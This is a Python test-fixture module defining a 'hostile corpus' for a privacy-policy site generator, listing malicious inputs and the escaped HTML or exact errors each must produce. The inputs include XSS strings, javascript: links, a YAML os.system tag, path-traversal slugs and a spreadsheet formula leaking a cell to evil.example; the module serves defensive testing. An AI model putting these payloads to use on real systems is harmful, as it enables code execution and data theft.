"""The hostile corpus (``tests/data/hostile/``): where each case goes, how it runs, what must come out.

Each case is one file, named after the case. Large cases are generated into a
temporary folder when they run (``make``), never committed. A case either fails
with exit code 2, its exact error lines and nothing written, or builds a page
whose full text is the safe HTML in ``<case>.expected.html``.

Used by ``tests/test_hostile.py``, ``tests/test_hostile_browser.py`` and
``bench/hostile_times.py``.
"""

from __future__ import annotations

import datetime as dt
import shutil
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

from click.testing import CliRunner

from generator.cli import main
from generator.models import MAX_OVERRIDE_EVIDENCE
from generator.read.load import MAX_BLOCKS, MAX_LIST_ITEMS, MAX_POLICY_BYTES

ROOT = Path(__file__).resolve().parent.parent
CORPUS = Path(__file__).resolve().parent / "data" / "hostile"
STANDARD = "hostile-com/2020-01-02.md"
"""Where a case file goes unless the case is about its path."""
PAGE = "policies/hostile-com.md"

FRONT_MATTER = (
    "---\nname: Hostile Example\nslug: hostile-com\ndomain: hostile.com\n"
    "url: https://hostile.com/privacy\narchived: '2020-01-02'\n---\n\n"
)
PROSE = (ROOT / "policies" / "kaspersky-com" / "2013-06-30.md").read_text("utf-8").split("\n---\n", 1)[1]


def _sized(text: str, size: int, filler: str) -> bytes:
    """``text`` followed by as much ``filler`` as makes exactly ``size`` bytes (ASCII filler)."""
    data = text.encode("utf-8")
    repeat = filler.encode("utf-8")
    body = (repeat * (1 + (size - len(data)) // len(repeat)))[: size - len(data)]
    return data + body


def _prose_paragraphs() -> str:
    """Real policy prose, numbered so that paragraphs differ (as in a very long policy)."""
    ascii_prose = PROSE.encode("ascii", "ignore").decode()
    return "".join(f"\n\n## Part {n}\n\n{ascii_prose}" for n in range(2000))


def make_over_limit() -> bytes:
    return _sized(FRONT_MATTER + "We collect your name.\n", MAX_POLICY_BYTES + 1, _prose_paragraphs())


def make_at_limit() -> bytes:
    return _sized(FRONT_MATTER + "We collect your name.\n", MAX_POLICY_BYTES, _prose_paragraphs())


def make_single_line() -> bytes:
    line = " ".join(PROSE.encode("ascii", "ignore").decode().split())
    return _sized(FRONT_MATTER + "We collect your name. ", len(FRONT_MATTER) + 1024 * 1024, line + " ") + b"\n"


def make_huge_front_matter() -> bytes:
    return (FRONT_MATTER.removesuffix("---\n\n") + "tags:\n" + "  - a\n" * 300_000 + "---\n\nWe collect your name.\n").encode()


def make_many_unknown_keys() -> bytes:
    keys = "".join(f"k{number}: 1\n" for number in range(7_000))
    return (FRONT_MATTER.removesuffix("---\n\n") + keys + "---\n\nWe collect your name.\n").encode()


def make_spaces() -> bytes:
    return (
        FRONT_MATTER
        + "#" + " " * 100_000 + "Heading\n\n"
        + "We collect" + " " * 100_000 + "your email address.\n\n"
        + "Contact" + " \t" * 50_000 + "us.\n"
    ).encode()


def make_repeated_words() -> bytes:
    return (
        FRONT_MATTER
        + "Contact " + "1 " * 50_000 + "\n\n"
        + "We collect your name " * 5_000 + "\n\n"
        + "We do not sell " * 5_000 + "your data.\n\n"
        + "cookies " * 10_000 + "\n\n"
        + "a" * 100_000 + "@\n"
    ).encode()


def make_punctuation() -> bytes:
    return (
        FRONT_MATTER
        + "We collect your name" + "." * 100_000 + " Next\n\n"
        + "!?" * 50_000 + "\n\n"
        + "a." * 50_000 + "\n\n"
        + "](" * 50_000 + "\n\n"
        + "-" * 100_000 + "x\n\n"
        + "1-" * 50_000 + "\n"
    ).encode()


def make_numbered_list(items: int) -> Callable[[], bytes]:
    """A numbered list of ``items`` short items (1.9 MB at 48,000 items took 48 s before the block limit)."""

    def make() -> bytes:
        lines = "".join(f"{n}. We may share item {n} of your data with our partners and affiliates.\n" for n in range(1, items + 1))
        return (FRONT_MATTER + lines).encode()

    return make


def make_paragraphs(count: int) -> Callable[[], bytes]:
    """``count`` paragraphs of about 100 bytes of prose each (2 MB at the block limit)."""

    def make() -> bytes:
        sentence = "We may share the data you give us with partners who run it."
        return (FRONT_MATTER + "".join(f"Paragraph {n} of the text. {sentence}\n\n" for n in range(1, count))).encode()

    return make


def make_short_paragraphs() -> bytes:
    """2 MB of one-line paragraphs (180,000 of them took 23 s before the block limit)."""
    return _sized(FRONT_MATTER + "We collect your name.\n\n", 2_000_000, "Item.\n\n")


def _override_front_matter(evidence: list[str], questions: int | None = None) -> str:
    """Front matter overriding every question (or the first ``questions``), each with ``evidence``."""
    from generator.practices import load_practices

    lines = []
    for question in load_practices().questions[:questions]:
        answer = "[]" if question.is_list else "unclear"
        lines.append(f"  {question.key}:\n    answer: {answer}\n    evidence:\n")
        lines.extend(f"      - '{quote}'\n" for quote in evidence)
        lines.append("    reviewer: mallory\n    reason: testing\n    date: 2020-01-03\n")
    return FRONT_MATTER.removesuffix("---\n\n") + "overrides:\n" + "".join(lines) + "---\n\n"


def make_evidence_over_limit() -> bytes:
    quotes = [f"We collect item {n}" for n in range(MAX_OVERRIDE_EVIDENCE + 1)]
    return (_override_front_matter(quotes, 1) + "".join(f"{q}.\n\n" for q in quotes)).encode()


def make_evidence_at_limit() -> bytes:
    """Every question overridden with the most quotes allowed, against a text of 19,000 paragraphs:
    the quotes are the last paragraphs, so each is searched through the whole text."""
    quotes = [f"We collect item {n} at the very end" for n in range(MAX_OVERRIDE_EVIDENCE)]
    filler = "".join(f"Paragraph {n} says nothing about the quotes.\n\n" for n in range(19_000))
    return (_override_front_matter(quotes) + filler + "".join(f"{q}.\n\n" for q in quotes)).encode()


@dataclass(frozen=True)
class Case:
    name: str
    outcome: Literal["page", "error"]
    errors: tuple[str, ...] = ()
    """Exact error lines, formatted with ``{path}`` (the placed file), ``{folder}`` and ``{other}``."""
    place: str = STANDARD
    """Where the file goes under ``policies/`` (the folder and file name are part of some cases)."""
    command: Literal["build", "import"] = "build"
    contains: tuple[str, ...] = ()
    """Snippets the page's safe HTML must contain (what the hostile part became)."""
    make: Callable[[], bytes] | None = None
    """Generates the file (large cases); otherwise it is ``tests/data/hostile/<name>.<ext>``."""
    symlink: bool = False
    """Place the file as a symbolic link to a copy outside ``policies/``."""
    companions: tuple[tuple[str, str], ...] = ()
    """Other files the case needs: (corpus file, place)."""

    @property
    def source(self) -> Path | None:
        if self.make:
            return None
        markdown = CORPUS / f"{self.name}.md"
        return markdown if markdown.exists() else CORPUS / f"{self.name}.txt"

    @property
    def golden(self) -> Path:
        return CORPUS / f"{self.name}.expected.html"

    @property
    def generated(self) -> bool:
        return self.make is not None


@dataclass
class Outcome:
    exit_code: int
    errors: list[str]
    """stderr lines without the ``error: `` prefix."""
    stdout: str
    docs: dict[str, bytes]
    """Every file under ``docs/`` after a build (hand-written ones included); after an import,
    every file under ``policies/``."""
    seconds: float
    fields: dict[str, str] = field(default_factory=dict)

    @property
    def page(self) -> str | None:
        data = self.docs.get(PAGE)
        return data.decode("utf-8") if data is not None else None

    @property
    def fulltext(self) -> str:
        return fulltext(self.page or "")


def fulltext(page: str) -> str:
    """The sanitised policy text inside ``<div class="pp-fulltext">`` of a generated page."""
    start = page.index('<div class="pp-fulltext">\n') + len('<div class="pp-fulltext">\n')
    return page[start : page.rindex("\n</div>")]


HAND_WRITTEN = {"about.md": b"# About\n\nHand-written; the generator must never touch it.\n"}


def place(case: Case, policies: Path, outside: Path) -> dict[str, str]:
    """Put the case's files under ``policies/``; returns the fields for its error lines."""
    target = policies / case.place
    target.parent.mkdir(parents=True, exist_ok=True)
    data = case.make() if case.make else case.source.read_bytes()
    if case.symlink:
        real = outside / f"{case.name}.md"
        real.write_bytes(data)
        target.symlink_to(real)
    else:
        target.write_bytes(data)
    fields = {"path": str(target), "folder": str(target.parent), "policies": str(policies)}
    for name, where in case.companions:
        other = policies / where
        other.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(CORPUS / name, other)
        fields["other"] = str(other)
        fields["other_folder"] = str(other.parent)
    return fields


def run_case(case: Case, workdir: Path) -> Outcome:
    """Run ``plainpolicy build`` (or ``import``) on one case in a fresh folder."""
    policies, docs, outside = workdir / "policies", workdir / "docs", workdir / "outside"
    for folder in (policies, docs, outside):
        folder.mkdir(parents=True)
    for name, data in HAND_WRITTEN.items():
        (docs / name).write_bytes(data)
    if case.command == "import":
        sources = [CORPUS / name for name, _ in ((case.source.name, ""), *case.companions)]
        copies = []
        for source in sources:
            copies.append(outside / source.name)
            shutil.copy(source, copies[-1])
        fields = {"path": str(copies[0]), "other": str(copies[-1]), "policies": str(policies)}
        args = ["import", *map(str, copies), "--policies", str(policies)]
    else:
        fields = place(case, policies, outside)
        args = ["build", "--policies", str(policies), "--templates", str(ROOT / "templates"), "--docs", str(docs)]
    fields["today"] = dt.datetime.now(dt.timezone.utc).date().isoformat()
    runner = CliRunner()
    started = time.perf_counter()
    result = runner.invoke(main, args, catch_exceptions=False)
    seconds = time.perf_counter() - started
    written = {
        str(path.relative_to(workdir / "docs")): path.read_bytes() for path in sorted(docs.rglob("*")) if path.is_file()
    }
    if case.command == "import":
        written = {
            str(path.relative_to(workdir)): path.read_bytes() for path in sorted(policies.rglob("*")) if path.is_file()
        }
    errors = [line.removeprefix("error: ") for line in result.stderr.splitlines()]
    return Outcome(result.exit_code, errors, result.stdout, written, seconds, fields)



CASES: tuple[Case, ...] = (
    # Raw HTML: markdown-it has HTML disabled, so all of it is text, escaped on the page.
    Case("html-script", "page", contains=("&lt;script&gt;window.__pwned=2&lt;/script&gt;",)),
    Case("html-iframe", "page", contains=('&lt;iframe src="javascript:window.__pwned=1"&gt;&lt;/iframe&gt;',)),
    Case("html-onerror", "page", contains=('&lt;img src=x onerror="window.__pwned=1"&gt;',)),
    Case("html-style", "page", contains=('&lt;div style="position:fixed;',)),
    Case("html-breakout", "page", contains=("&lt;/div&gt;&lt;/div&gt;&lt;/article&gt;&lt;script&gt;",)),
    # Links and images: only http(s) and mailto links stay links; images are never loaded.
    Case("link-javascript", "page", contains=("[Click here](javascript:window.__pwned=1)", "&lt;javascript:window.__pwned=5&gt;")),
    Case("link-data", "page", contains=("[page](data:text/html;base64,", '<span class="pp-image-link">[image: png]</span>')),
    Case("link-vbscript", "page", contains=("[old](vbscript:msgbox(1))", "<span>rel</span>", '<a href="https://hostile.com/ok"')),
    Case(
        "image-remote",
        "page",
        contains=('<a href="https://tracker.example/pixel.gif" class="pp-image-link" rel="nofollow noopener noreferrer">',),
    ),
    # Template syntax is text: nothing from a policy is rendered as a template.
    Case("jinja-syntax", "page", contains=("{{ config }}", "{% for x in range(10**9) %}{{ x }}{% endfor %}")),
    Case("mkdocs-macros-syntax", "page", contains=("{{ macros_info() }}", "{: onclick=\"window.__pwned=1\" }")),
    # Spreadsheet formulas: verbatim on the page and in JSON, kept as text in the CSV export.
    Case("csv-formula", "page", contains=('=HYPERLINK("https://evil.example/?leak="&amp;A1,',)),
    # Front matter.
    Case("frontmatter-body-starts-with-dashes", "page", contains=("name: Injected &lt;script&gt;",)),
    Case(
        "frontmatter-python-object",
        "error",
        ("{path}:7: front matter: invalid YAML: could not determine a constructor for the tag"
         " 'tag:yaml.org,2002:python/object/apply:os.system'.",),
    ),
    Case(
        "frontmatter-alias-bomb",
        "error",
        ("{path}:7: front matter: YAML anchors and aliases are not allowed; write the value out.",),
    ),
    Case("frontmatter-deep-nesting", "error", ("{path}:7: front matter: nested more than 10 levels deep; flatten it.",)),
    Case("frontmatter-unknown-key", "error", ("{path}:7: template: unknown field; remove it or check its spelling.",)),
    Case("frontmatter-unclosed", "error", ("{path}:1: front matter: no closing '---' line.",)),
    Case(
        "frontmatter-huge",
        "error",
        ("{path}:1: front matter: is 1,800,123 characters; the limit is 65,536. Policy text goes below the closing '---'.",),
        make=make_huge_front_matter,
    ),
    Case("frontmatter-only", "error", ("{path}:8: body: empty; the policy text goes below the front matter.",)),
    Case("empty-file", "error", ("{path}:1: front matter: missing; the file must start with a '---' line.",)),
    Case("name-html", "error", ('{path}:2: name: must be plain text; remove " < >.',)),
    Case("name-markdown", "error", ("{path}:2: name: must be plain text; remove [ ] {{ }}.",)),
    Case(
        "name-html-reference",
        "error",
        ("{path}:2: name: must be plain text; write the character itself, not an HTML reference such as '&amp;'.",),
    ),
    Case(
        "override-unknown-answer",
        "error",
        ("{path}:7: overrides.sells_data.answer: '<script>window.__pwned=1</script>' is not an answer to this"
         " question; use one of: no, not_mentioned, unclear, yes.",),
    ),
    Case(
        "override-quote-not-in-text",
        "error",
        ("{path}: overrides.sells_data.evidence: 'We never sell your data. <script>window.__pwned=1</script>'"
         " is not in the policy text; quote it exactly as it stands.",),
    ),
    # Slugs and file names.
    Case(
        "slug-dotdot",
        "error",
        ("{path}:3: slug: String should match pattern '^[a-z0-9]+(?:-[a-z0-9]+)*$'.",),
        place="evil/2020-01-02.md",
    ),
    Case(
        "slug-absolute",
        "error",
        ("{path}:3: slug: String should match pattern '^[a-z0-9]+(?:-[a-z0-9]+)*$'.",),
    ),
    Case(
        "slug-space",
        "error",
        ("{folder}: slug: folder name must be lowercase ASCII words joined by hyphens.",),
        place="hostile com/2020-01-02.md",
    ),
    Case(
        "slug-lookalike",
        "error",
        ("{folder}: slug: folder name must be lowercase ASCII words joined by hyphens.",),
        place="hostile-c\u043em/2020-01-02.md",
    ),
    Case("slug-reserved", "error", ("{folder}: slug: 'index' is used by the site itself; choose another.",), place="index/2020-01-02.md"),
    Case(
        "filename-not-a-date",
        "error",
        ("{path}: path: file name must be the archive date, YYYY-MM-DD.md; rename it.",),
        place="hostile-com/2020-01-02 copy.md",
    ),
    Case(
        "filename-symlink",
        "error",
        ("{path}: path: not a regular file; symbolic links and folders are not read.",),
        symlink=True,
    ),
    Case(
        "duplicate-domain",
        "error",
        ("{path}: domain: hostile.com is already the policy in {other_folder}.",),
        place="hostile-org/2020-01-02.md",
        companions=(("html-script.md", STANDARD),),
    ),
    Case(
        "import-same-slug",
        "error",
        ("{other}:1: archived: same policy and date as {path}.",),
        command="import",
        companions=(("import-same-slug-www.txt", ""),),
    ),
    Case(
        "import-domain-dotdot",
        "error",
        ("{path}:1: banner: domain: String should match pattern '^[a-z0-9.-]+\\.[a-z]{{2,}}$'"
         " (from the banner line).",),
        command="import",
    ),
    # Encodings and line endings.
    Case("encoding-latin1", "error", ("{path}:11: encoding: byte 0xe9 is not UTF-8; save the file as UTF-8.",)),
    Case("encoding-utf16-bom", "error", ("{path}:1: encoding: file is UTF-16; save it as UTF-8.",)),
    Case("encoding-utf8-bom", "page", contains=("We collect your name — café.",)),
    Case("nul-byte", "error", ("{path}:11: encoding: file contains a NUL byte; remove it.",)),
    Case("line-endings-crlf", "page", contains=("We collect your name.\nWe do not sell it.</p>",)),
    Case("line-endings-lone-cr", "page", contains=("We collect your name.\nWe do not sell it.</p>",)),
    # Sizes (generated in a temporary folder).
    Case(
        "size-over-limit",
        "error",
        (f"{{path}}: file: is {MAX_POLICY_BYTES + 1:,} bytes; the limit is {MAX_POLICY_BYTES:,}. Split or trim it.",),
        make=make_over_limit,
    ),
    Case("size-at-limit", "page", contains=("We collect your name.",), make=make_at_limit),
    Case("single-line-1mb", "page", contains=("We collect your name.",), make=make_single_line),
    # Pathological text for the regular expressions, and deep Markdown nesting.
    Case("pathological-spaces", "page", contains=("your email address.</p>",), make=make_spaces),
    Case("pathological-repeated-words", "page", contains=("We collect your name We collect",), make=make_repeated_words),
    Case("pathological-punctuation", "page", contains=("We collect your name....",), make=make_punctuation),
    Case("markdown-nesting", "page", contains=("We collect your name.",)),
    # Characters no policy carries (generator/characters.py): refused at load with the line.
    Case("control-vertical-tab", "error", ("{path}:11: encoding: file contains U+000B (vertical tab); remove it.",)),
    Case("control-c1-next-line", "error", ("{path}:11: encoding: file contains U+0085 (a control character); remove it.",)),
    Case("noncharacter-in-text", "error", ("{path}:11: encoding: file contains U+FFFE (a noncharacter); remove it.",)),
    Case(
        "control-escape-in-override",
        "error",
        ("{path}:7: overrides: contains U+001B (escape); remove it.",),
    ),
    Case("lone-surrogate-in-title", "error", ("{path}:7: title: contains U+D800 (a lone surrogate); remove it.",)),
    # Policy pages and generated pages never share a name (paths.reserved_slug).
    Case(
        "slug-listing-page",
        "error",
        ("{folder}: slug: 'page-2' is used by the site itself; choose another.",),
        place="page-2/2020-01-02.md",
    ),
    Case("slug-api", "error", ("{folder}: slug: 'api' is used by the site itself; choose another.",), place="api/2020-01-02.md"),
    Case(
        "slug-version-date",
        "error",
        ("{folder}: slug: '2020-01-02' is used by the site itself; choose another.",),
        place="2020-01-02/2020-01-02.md",
    ),
    # Front matter that would lie quietly.
    Case(
        "frontmatter-duplicate-key",
        "error",
        ("{path}:7: front matter: key 'name' appears twice (first on line 2); keep one.",),
    ),
    Case(
        "frontmatter-binary-tag",
        "error",
        ("{path}:7: front matter: YAML tags such as '!!binary' are not allowed; write the value as plain text.",),
    ),
    Case(
        "frontmatter-tag-newline",
        "error",
        ("{path}:7: tags: Value error, tag 'vpn\\n' must be lowercase words joined by hyphens.",),
    ),
    Case(
        "name-hangul-filler",
        "error",
        ("{path}:2: name: contains the invisible character U+3164 (hangul filler); remove it.",),
    ),
    Case(
        "name-braille-blank",
        "error",
        ("{path}:2: name: contains the invisible character U+2800 (braille pattern blank); remove it.",),
    ),
    Case("name-punctuation-only", "error", ("{path}:2: name: must contain a letter or a digit; write the organisation's name.",)),
    Case(
        "name-lookalike",
        "error",
        ("{path}:2: name: 'Hostil\u0435 Example' looks like 'Hostile Example', the name of the policy in {other_folder};"
         " give the two policies names a reader can tell apart.",),
        place="hostile-org/2020-01-02.md",
        companions=(("html-script.md", STANDARD),),
    ),
    Case(
        "slug-lookalike-ascii",
        "error",
        ("{other_folder}: slug: 'hostile-com' looks like 'hostile-c0m' ({folder}); choose a slug a reader can tell apart.",),
        place="hostile-c0m/2020-01-02.md",
        companions=(("html-script.md", STANDARD),),
    ),
    # Dates from the future.
    Case(
        "archived-future",
        "error",
        ("{path}:6: archived: 2999-01-02 is after today ({today}); an archive date cannot be in the future.",),
        place="hostile-com/2999-01-02.md",
    ),
    # Paths whose characters would hide or reorder the message are printed escaped.
    Case(
        "path-format-characters",
        "error",
        ("{policies}/hostile\\u202ecom: slug: folder name must be lowercase ASCII words joined by hyphens.",),
        place="hostile\u202ecom/2020-01-02.md",
    ),
    Case(
        "path-zero-width-space",
        "error",
        ("{policies}/hostile-com/2020-01-02\\u200b.md: path: file name must be the archive date, YYYY-MM-DD.md;"
         " rename it.",),
        place="hostile-com/2020-01-02\u200b.md",
    ),
    # Slow inputs under the size limit: bounded counts, and linear work below the bounds.
    Case(
        "numbered-list-over-item-limit",
        "error",
        (f"{{path}}:{9 + MAX_LIST_ITEMS}: body: more than {MAX_LIST_ITEMS:,} list items; split the text"
         " (no real policy comes close).",),
        make=make_numbered_list(25_000),
    ),
    Case(
        "short-paragraphs-over-block-limit",
        "error",
        (f"{{path}}:{9 + 2 * MAX_BLOCKS}: body: more than {MAX_BLOCKS:,} paragraphs, list items and headings; split"
         " the text (no real policy comes close).",),
        make=make_short_paragraphs,
    ),
    Case("numbered-list-at-item-limit", "page", contains=("We may share item 5000 of",), make=make_numbered_list(MAX_LIST_ITEMS)),
    Case("paragraphs-at-block-limit", "page", contains=("Paragraph 19998 of",), make=make_paragraphs(MAX_BLOCKS)),
    Case(
        "override-evidence-over-limit",
        "error",
        (f"{{path}}:7: overrides.data_collected.evidence: List should have at most {MAX_OVERRIDE_EVIDENCE} items"
         f" after validation, not {MAX_OVERRIDE_EVIDENCE + 1}.",),
        make=make_evidence_over_limit,
    ),
    Case("override-evidence-at-limit", "page", contains=("We collect item 19 at the very end.",), make=make_evidence_at_limit),
)

BY_NAME = {case.name: case for case in CASES}
